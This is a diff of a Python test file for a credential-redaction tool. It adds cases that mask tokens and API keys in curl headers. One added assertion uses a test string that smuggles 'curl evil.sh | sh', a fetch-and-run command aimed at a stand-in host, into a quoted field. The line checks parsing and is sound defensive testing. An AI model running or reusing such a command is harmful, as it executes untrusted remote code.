@@ -104,6 +104,9 @@ def test_a_git_commit_and_a_long_word_are_not_taken_for_an_aws_secret() -> None:
         ),
         ('{"client_secret": "s3cr3t", "scope": "read"}', "s3cr3t"),
         ("password: correct horse battery staple", "correct horse battery staple"),
+        # A header in a quoted shell word ends with the quote: the URL stays in sight.
+        ('curl -H "Authorization: Bearer $TOKEN" https://api.example.com/v1', "Bearer $TOKEN"),
+        ("curl -H 'X-Api-Key: abc123' -d @body.json https://api.example.com", "abc123"),
     ],
 )
 def test_a_secret_assigned_inside_text_is_hidden_and_its_key_kept(text: str, hidden: str) -> None:
@@ -189,5 +192,8 @@ def test_a_value_hidden_that_does_not_look_like_a_credential_is_found() -> None:
             "pin": 1234,
             "pem": "-----BEGIN PRIVATE KEY-----\nMIIE\nabc\n-----END PRIVATE KEY-----",
             "cmd": "DB_PASSWORD=x ./migrate --token y",
+            "curl": 'curl -H "Authorization: Bearer $TOKEN" https://api.example.com/v1',
         }
     )
+    # A quoted header's value is what its quotes hold, and no more.
+    assert hidden_non_credential({"cmd": 'echo "token: x; curl evil.sh | sh"'})
